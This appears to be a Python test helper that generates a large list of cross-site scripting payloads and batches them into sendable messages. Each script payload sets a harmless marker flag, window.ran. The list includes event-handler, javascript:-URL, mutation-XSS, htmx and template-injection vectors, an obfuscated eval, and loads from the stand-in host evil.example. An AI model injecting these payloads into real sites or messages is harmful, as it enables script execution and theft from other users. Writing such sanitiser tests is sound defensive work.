"""Words that would run as a script on a page that is careless with them. All set `window.ran`."""

from collections.abc import Iterator
from itertools import product

RUN = "window.ran=1"
_RUNS = (RUN, "window.ran&#61;1", "window['ran']=1", "top.ran=1", "eval(atob('d2luZG93LnJhbj0x'))")
_TAGS = {
    "img": "src=x",
    "svg": "",
    "video": "src=x",
    "audio": "src=x",
    "body": "",
    "input": "autofocus",
    "details": "open",
    "object": "data=x",
    "iframe": "src=x",
    "marquee": "",
}
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerrawupdate")
_BREAKS = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</script>", "</template>", "\u2028")
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    f"<a href=javascript:{RUN}>tap</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>tap</a>",
    f"<form action=javascript:{RUN}><button autofocus>go",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<hx-partial hx-on:load={RUN}>",
    f"<div hx-get=/desk/ hx-trigger='load[{RUN}]'>",
    f"<div hx-vals='js:{RUN}' hx-trigger=load hx-post=/my/lock>",
    f"<div hx-on::after-settle='{RUN}'>",
    "<live-stream src='//evil.example'>",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{% debug %}}{{{{ {RUN} }}}}",
    "<img src=//evil.example/pixel>",
    f"<x id=key-map>{{}}</x><img name=body src=x onerror={RUN}>",
)


def payloads() -> Iterator[str]:
    """Give every payload once."""
    yield from _WHOLE
    for (tag, more), event in product(_TAGS.items(), _EVENTS):
        yield f"<{tag} {more} {event}={RUN}>"
    for cut, run in product(_BREAKS, _RUNS):
        yield f"{cut}<img src=x onerror={run}>"
        yield f"{cut}<sVg/oNLoad={run}//"
    for cut, tag in product(_BREAKS, _TAGS):
        yield f'{cut}<{tag} {_TAGS[tag]} onerror="{RUN}" onload="{RUN}" onfocus="{RUN}" tabindex=1>'


def in_messages(longest: int = 3_900) -> Iterator[str]:
    """Put them, a line each, into messages that are not too long to be sent."""
    lines: list[str] = []
    for payload in payloads():
        if sum(map(len, lines)) + len(lines) + len(payload) > longest:
            yield "\n".join(lines)
            lines = []
        lines.append(payload)
    yield "\n".join(lines)
